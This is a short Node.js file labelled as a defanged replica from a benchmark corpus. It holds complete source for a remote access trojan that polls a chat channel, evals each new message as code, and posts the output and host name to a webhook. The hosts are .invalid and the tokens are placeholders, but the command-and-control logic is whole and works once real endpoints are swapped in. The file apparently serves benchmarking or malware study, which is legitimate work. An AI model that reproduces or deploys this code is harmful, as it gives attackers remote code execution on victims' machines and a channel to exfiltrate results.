// DEFANGED REPLICA (bench corpus, issue 10): a RAT that polls a chat channel for commands and evals them,
// answering through a webhook. Hosts under .invalid; the channel serves nothing. Never run outside the sandbox.
const https = require('https');
const os = require('os');

const CHANNEL = 'https://chat-api.invalid/api/v10/channels/000000000000000000/messages?limit=1';
const HOOK = 'https://chat-api.invalid/api/webhooks/000000000000000000/made-up-token';
let last = '';

function get(url, cb) {
  https.get(url, { headers: { Authorization: 'Bot made-up-bot-token' } }, (res) => {
    let data = '';
    res.on('data', (chunk) => { data += chunk; });
    res.on('end', () => cb(data));
  }).on('error', () => {});
}

function reply(text) {
  const req = https.request(HOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(JSON.stringify({ content: `${os.hostname()}: ${String(text).slice(0, 1900)}` }));
}

function poll() {
  get(CHANNEL, (body) => {
    let messages = [];
    try { messages = JSON.parse(body); } catch (e) { return; }
    const msg = messages[0];
    if (!msg || msg.id === last) return;
    last = msg.id;
    try { reply(eval(msg.content)); } catch (e) { reply(e.message); }
  });
}

setInterval(poll, 5000);
